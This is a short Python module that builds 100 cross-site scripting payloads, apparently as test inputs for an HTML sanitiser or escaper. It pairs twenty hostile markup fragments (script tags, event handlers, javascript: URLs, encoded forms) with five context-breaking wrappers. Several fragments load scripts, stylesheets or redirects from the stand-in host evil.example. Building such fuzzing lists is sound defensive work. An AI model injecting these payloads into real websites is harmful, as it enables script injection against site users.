"""A hundred ways to make markup of words."""

from __future__ import annotations

from itertools import product

_BODIES = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=http://evil.example/x.swf>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=a></form>",
    "<video><source onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<details open ontoggle=alert(1)>",
    "\u2028<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003ealert(1)",
)
_AROUND = ("{}", '">{}', "'>{}", "]]>-->{}<!--", "</title></style></svg></td>{}")
XSS = tuple(around.format(body) for body, around in product(_BODIES, _AROUND))
